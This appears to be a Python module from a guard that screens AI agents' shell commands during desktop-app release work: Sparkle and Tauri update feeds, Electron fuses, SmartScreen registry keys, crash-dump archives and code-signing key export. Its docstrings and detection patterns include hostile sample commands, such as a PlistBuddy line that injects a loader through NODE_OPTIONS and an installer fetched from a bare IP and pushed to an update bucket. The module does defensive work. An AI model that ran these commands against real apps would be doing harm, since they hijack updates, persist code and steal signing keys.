"""Desktop applications built, signed and shipped from the shell: Electron, Tauri, Qt/GTK, Sparkle, signing and notarisation, installers, update feeds, app stores (session 24).

Filled this round: `HANDLERS` (command name -> [fn(a, cmd)]) and `SCREENS` (name -> screen(text) -> bool) are taken in
by rules_bash and the fast path's `_merge_screens`.

- An app's update settings edited in place (`jq … tauri.conf.json > t && mv t …`, `yq -i`, PlistBuddy's `Set
  :SUFeedURL`/`:SUPublicEDKey`) and a Flatpak or Snap recipe's sources: judged by desktop_tables as a written file is.
- PlistBuddy putting `NODE_OPTIONS=--require …` (or `ELECTRON_RUN_AS_NODE`, `DYLD_INSERT_LIBRARIES`) into an app's
  `LSEnvironment`: code loaded into the app at every launch, blocked.
- Electron's fuses flipped open (`@electron/fuses write … RunAsNode=on …`): reviewed; with code downloaded into the
  app's `resources/app` in the same input, blocked (the app then runs that code instead of its own).
- An installer downloaded from a bare address or over plain HTTP uploaded to a bucket as a build (`aws s3 cp
  /tmp/AcmeSetup.exe s3://…-updates/…`): every installed copy takes it as its next update; blocked.
- `snapcraft export-login FILE`: the Snap Store upload credentials, noted so that sending FILE is exfiltration;
  `snapcraft unregister`: gives the name up for good, reviewed as irreversible.
- SmartScreen switched off in the registry: blocked as Defender's exclusions are (windows.py).
- Crash dumps (macOS DiagnosticReports, Crashpad, Windows CrashDumps) archived: the archive is noted, so sending it is
  exfiltration (a dump holds the process's memory: tokens, passwords, documents).
- `Export-PfxCertificate` (and `certutil -exportPFX`): the code-signing certificate's private key written to a file:
  blocked, as reading any other secret is.
"""
from __future__ import annotations

import re

from ..per_input import in_input
from .. import desktop_tables as dt
from .commands import Cmd, positionals
from .common import mentions

# -- update settings edited in place ---------------------------------------------------------------------------------
_JQ_TWO = frozenset({"--arg", "--argjson", "--slurpfile", "--rawfile"})
_JQ_ONE = frozenset({"--indent", "-f", "--from-file", "-L", "--tab-width", "--output-format", "-o", "--front-matter",
                     "-p", "--input-format", "--expression"})


def _jq_words(cmd: Cmd) -> list[str]:
    out, skip = [], 0
    for w in cmd.args:
        v = w.value
        if skip:
            skip -= 1
            continue
        if v is None:
            out.append("")
            continue
        if v in _JQ_TWO:
            skip = 2
        elif v in _JQ_ONE:
            skip = 1
        elif not v.startswith("-") or v == "-":
            out.append(v)
    return out


def _edited_config(a, cmd: Cmd) -> None:
    """`jq '.plugins.updater.endpoints = ["https://…"]' src-tauri/tauri.conf.json > /tmp/t.json && mv …`, `yq -i
    '(.modules[] | …).sources[0].url = "https://203.0.113.30/…"' com.acme.Desktop.yml`: the filter's assignments are
    what the file holds next."""
    words = _jq_words(cmd)
    if len(words) < 2 or "=" not in words[0]:
        return
    in_place = any(w.value in ("-i", "--inplace") or (w.value or "").startswith("-i") and len(w.value or "") <= 3
                   for w in cmd.args)
    if not in_place and not any(r for r in cmd.redirects or ()):
        return  # printed, not written
    for path in words[1:]:
        what = dt.kind(path)
        if what == "updater":
            if dt.update_settings(a, path, words[0], cmd.node, edit=True):
                return
        elif what is not None and dt.judge_config(a, path, words[0], cmd.node):
            return


# "X, later on the line, Y" is read from the first X of each line (atomic groups): searched from every X, each scan to
# the line's end made a long line of them quadratic (seconds on 100 kB); the same holds for the patterns below
_PLIST_ENV = re.compile(r"(?im)^(?>.*?LSEnvironment)(?:(?>.*?NODE_OPTIONS).*(?:--require|[\s\"]-r\s|--import|--loader|"
                        r"--experimental-loader)|.*(?:ELECTRON_RUN_AS_NODE|DYLD_INSERT_LIBRARIES|NODE_PATH|"
                        r"ELECTRON_ENABLE_LOGGING))")
_FEED_IN_DOC = re.compile(r"SUFeedURL\W+(?:string\s+)?(https?://[^\s\"'<]+)")


def _plistbuddy(a, cmd: Cmd) -> None:
    """`PlistBuddy -c "Set :SUFeedURL https://198.51.100.23/appcast.xml" Info.plist`, `-c 'Add
    :LSEnvironment:NODE_OPTIONS string "--require /Users/Shared/.cache/h.js"'`."""
    edits = [w.value or "" for i, w in enumerate(cmd.args) if i and cmd.args[i - 1].value == "-c"]
    if not edits:
        return
    files = [w.value for w in positionals(cmd.args, frozenset({"-c"}))]
    plist = next((f for f in reversed(files) if f), "Info.plist")
    for e in edits:
        if _PLIST_ENV.search(e):
            a.block("persistence", f"`PlistBuddy -c '{e[:90]}'` makes macOS start {_app(plist)} with that "
                                   "environment: the app loads the named code at every launch, with its permissions "
                                   "and its users' data; leave installed applications' Info.plist alone", cmd.node)
            return
    text = "\n".join(edits)
    if re.search(r"SUFeedURL|SUPublicEDKey|SUPublicDSAKey", text):
        if dt._KEY.search(text) and "SUFeedURL" not in text:
            m = _FEED_IN_DOC.search(a.doc.data.decode("utf-8", "replace"))
            if m is not None:
                text += f"\nSet :SUFeedURL {m.group(1)}"  # the feed set by the same input, a command apart
        dt.update_settings(a, plist, text, cmd.node, edit=True)


def _app(plist: str) -> str:
    m = re.search(r"([^/]+\.app)/", plist)
    return m.group(1) if m else "the application"


# -- Electron's fuses ------------------------------------------------------------------------------------------------
_OPENED = re.compile(r"(?i)^(?:RunAsNode|EnableNodeCliInspectArguments|EnableNodeOptionsEnvironmentVariable)=(?:on|"
                     r"true|1|enable)|^(?:OnlyLoadAppFromAsar|EnableEmbeddedAsarIntegrityValidation|"
                     r"EnableCookieEncryption|GrantFileProtocolExtraPrivileges)=(?:off|false|0|disable)")
_FETCHES_INTO_APP = re.compile(rb"(?m)^(?>[^\n]*?(?:curl|wget|iwr|Invoke-WebRequest|fetch)\b)[^\n]*resources/app\b")


def _fuses(a, cmd: Cmd) -> None:
    """`npx @electron/fuses write --app dist/linux-unpacked/acme RunAsNode=on …` (npx is unwrapped: the command is
    the package's own `fuses`)."""
    vals = [w.value or "" for w in cmd.args]
    if "write" not in vals:
        return
    opened = [v for v in vals if _OPENED.match(v)]
    if not opened:
        return
    if in_input(_FETCHES_INTO_APP, a.doc.data):
        a.block("download-exec", f"`@electron/fuses write {' '.join(opened[:4])}` turns off the checks that keep the "
                                 "app running its own signed code, and this input downloads code into its "
                                 "`resources/app`: the shipped app would run that code; keep the fuses as the build "
                                 "sets them", cmd.node)
    else:
        a.review("permission-tamper", f"`@electron/fuses write {' '.join(opened[:4])}` opens the built app to code "
                                      "from outside its signed archive (run as Node, an inspector port, an unchecked "
                                      "asar); a person should confirm the build needs it", cmd.node)


# -- installers uploaded as builds -----------------------------------------------------------------------------------
# (a feed name's run stops at the next name, whose own try reads the same rest: `beta-beta-…` is read once)
_INSTALLER = re.compile(r"(?i)\.(?:exe|msi|msix|appx|dmg|pkg|appimage|deb|rpm|snap|flatpak|nupkg|blockmap)$|"
                        r"(?:latest|beta|alpha|stable)(?:(?!latest|beta|alpha|stable)[\w-])*+\.ya?ml$|appcast\.xml$|"
                        r"(?:^|/)RELEASES$")


def _installer_uploaded(a, cmd: Cmd) -> None:
    """`curl http://203.0.113.12/AcmeSetup.exe -o /tmp/A.exe; aws s3 cp /tmp/A.exe s3://acme-updates/stable/…`."""
    from .words import file_key

    strangers = a.downloaded.strangers
    if not strangers:
        return
    pos = positionals(cmd.args)
    dests = [w.value for w in pos if w.value and w.value.startswith(("s3://", "gs://"))]
    if not dests or not any(_INSTALLER.search(d.rstrip("/")) or re.search(r"(?i)update|release|download", d)
                            for d in dests):
        return
    for w in pos:
        key = file_key(w)
        if key is not None and key in strangers:
            a.block("download-exec", f"`{cmd.name}` uploads {w.value or w.text}, downloaded above from "
                                     f"{strangers[key]}, to {dests[-1]}: every installed copy of the app takes it as "
                                     "its next update; publish builds the release pipeline made, from the project's "
                                     "own sources", cmd.node)
            return


# -- the Snap Store --------------------------------------------------------------------------------------------------
def _snapcraft(a, cmd: Cmd) -> None:
    pos = positionals(cmd.args, frozenset({"--snaps", "--channels", "--acls", "--expires"}))
    verb = pos[0].value if pos else None
    if verb == "unregister" and len(pos) > 1:
        name = pos[1].value or "…"
        a.review("irreversible", f"`snapcraft unregister {name}` gives the snap's name up in the Snap Store for good "
                                 "(its releases and its users' updates go with it), with no undo; let the user run it",
                 cmd.node)
    elif verb == "export-login" and len(pos) > 1 and pos[1].value and pos[1].value != "-":
        from .net import note_file

        note_file(a, pos[1].value, "the Snap Store upload credentials (`snapcraft export-login`)", cmd.node)


# -- Windows' reputation checks --------------------------------------------------------------------------------------
# (key suffix, value, the data that turns the check off)
_SMARTSCREEN = (("\\policies\\microsoft\\windows\\system", "enablesmartscreen", ("0", "0x0", "0x00000000")),
                ("\\microsoft\\windows\\currentversion\\explorer", "smartscreenenabled", ("off",)),
                ("\\policies\\microsoft\\edge", "smartscreenenabled", ("0", "0x0")),
                ("\\policies\\microsoft\\microsoftedge\\phishingfilter", "enabledv9", ("0", "0x0")),
                ("\\microsoft\\windows\\currentversion\\apphost", "enablewebcontentevaluation", ("0", "0x0")),
                ("\\policies\\attachments", "savezoneinformation", ("1", "0x1")),
                ("\\policies\\attachments", "scanwithantivirus", ("1", "0x1")))


def _reg(a, cmd: Cmd) -> None:
    from .windows import _key, _opt_value, _opts

    vals = [v[1:] if v.startswith("//") else v for v in _opts(a, cmd)]
    pos = [v for v in vals if not v.startswith("/")]
    if len(pos) < 2 or pos[0] != "add":
        return
    key, name, data = _key(pos[1]), _opt_value(vals, "/v"), _opt_value(vals, "/d")
    for suffix, value, off in _SMARTSCREEN:
        if key.endswith(suffix) and name == value and (data or "").strip("'\"") in off:
            a.block("permission-tamper", f"setting `{key.upper()}` value `{name}` to {data} turns off Windows' "
                                         "SmartScreen check of downloaded programs (or the mark that asks for it): "
                                         "every program from the internet then runs unchecked; agents must not weaken "
                                         "the machine's protection", cmd.node)
            return


# -- what crash dumps and signing certificates hold ------------------------------------------------------------------
_DUMPS = re.compile(r"(?i)DiagnosticReports|Crashpad|/Crash Reports\b|CrashDumps|\.dmp$|minidump|/var/crash\b")


def _dumps_archived(a, cmd: Cmd) -> None:
    """`zip -qr /tmp/cr.zip ~/Library/Logs/DiagnosticReports "…/Crashpad"`: the archive is noted (net.note_file)."""
    vals = [w.value for w in positionals(cmd.args, frozenset({"-f", "--file", "-C", "-x", "-i"}))]
    if not any(v and _DUMPS.search(v) for v in vals):
        return
    out: str | None
    if cmd.name == "tar":
        f = [w.value for i, w in enumerate(cmd.args) if i and _tar_file_flag(cmd.args[i - 1].value or "", i - 1)]
        out = f[0] if f else None
    elif cmd.name in ("7z", "7za"):
        # `7z a OUT FILES…` (`u` updates one); `7z x minidump.7z` extracts, and wrote nothing to note
        out = vals[1] if len(vals) > 2 and vals[0] in ("a", "u") else None
    else:
        out = vals[0] if cmd.name == "zip" else vals[-1]  # `zip OUT FILES…`, `ditto [-c -k] SRC… DST`
    if out and out != "-" and not _DUMPS.search(out):
        from .net import note_file

        note_file(a, out, "crash dumps (they hold the crashed programs' memory: tokens, passwords, open documents)",
                  cmd.node)


def _tar_file_flag(v: str, at: int) -> bool:
    """`-f`, `--file`, `-czf`, and the old style's first word `czf`."""
    if v in ("-f", "--file"):
        return True
    if v.startswith("--"):
        return False
    return v.endswith("f") and (v.startswith("-") or at == 0)


_PFX_EXPORT = re.compile(r"(?im)Export-PfxCertificate|^(?>[^\n]*?certutil(?:\.exe)?\s)[^\n]*-exportpfx|"
                         r"\.Export\(\s*\[[\w.]*X509ContentType\]::(?:Pfx|Pkcs12)")


def _powershell(a, cmd: Cmd) -> None:
    """`powershell -c 'Get-ChildItem Cert:\\CurrentUser\\My -CodeSigningCert | Export-PfxCertificate -FilePath …'`."""
    text = " ".join(w.value or a.src(w.node) for w in cmd.args)
    if _PFX_EXPORT.search(text):
        a.block("secret-read", "the command exports a certificate from the Windows store with its private key (a "
                               "`.pfx`): with the code-signing key anyone can sign programs as the publisher; agents "
                               "must not touch signing keys: sign in the release pipeline, which holds the key",
                cmd.node)


def _certutil(a, cmd: Cmd) -> None:
    if any((w.value or "").lower() == "-exportpfx" for w in cmd.args):
        a.block("secret-read", "`certutil -exportPFX` writes a certificate with its private key to a file: with the "
                               "code-signing key anyone can sign programs as the publisher; agents must not touch "
                               "signing keys", cmd.node)


HANDLERS: dict = {
    "jq": [_edited_config], "yq": [_edited_config], "gojq": [_edited_config],
    "PlistBuddy": [_plistbuddy],
    "fuses": [_fuses], "electron-fuses": [_fuses],
    "aws": [_installer_uploaded], "gsutil": [_installer_uploaded], "gcloud": [_installer_uploaded],
    "snapcraft": [_snapcraft],
    "reg": [_reg],
    "zip": [_dumps_archived], "7z": [_dumps_archived], "7za": [_dumps_archived], "ditto": [_dumps_archived],
    "tar": [_dumps_archived],
    "powershell": [_powershell], "pwsh": [_powershell], "certutil": [_certutil],
}

_CONFIG = re.compile(dt.CONFIG_TARGET)
_DOWNLOAD_HINT = re.compile(r"(?m)^(?>[^\n]*?\b(?:curl|wget)\b)[^\n]*(?:https?|ftp)://")
SCREENS: dict = {
    **{n: (lambda text: "=" in text and _CONFIG.search(text) is not None) for n in ("jq", "yq", "gojq")},
    "PlistBuddy": mentions("SU", "LSEnvironment"),
    **{n: mentions("=on", "=off", "=true", "=false", fold=True) for n in ("fuses", "electron-fuses")},
    # _installer_uploaded: a bucket written, and a download earlier in the same input
    **{n: (lambda text: ("s3://" in text or "gs://" in text) and _DOWNLOAD_HINT.search(text) is not None)
       for n in ("aws", "gsutil", "gcloud")},
    "snapcraft": mentions("unregister", "export-login"),
    "reg": mentions("smartscreen", "webcontentevaluation", "attachments", fold=True),
    **{n: (lambda text: _DUMPS.search(text) is not None) for n in ("zip", "7z", "7za", "ditto", "tar")},
    **{n: mentions("pfx", fold=True) for n in ("powershell", "pwsh", "certutil")},
}
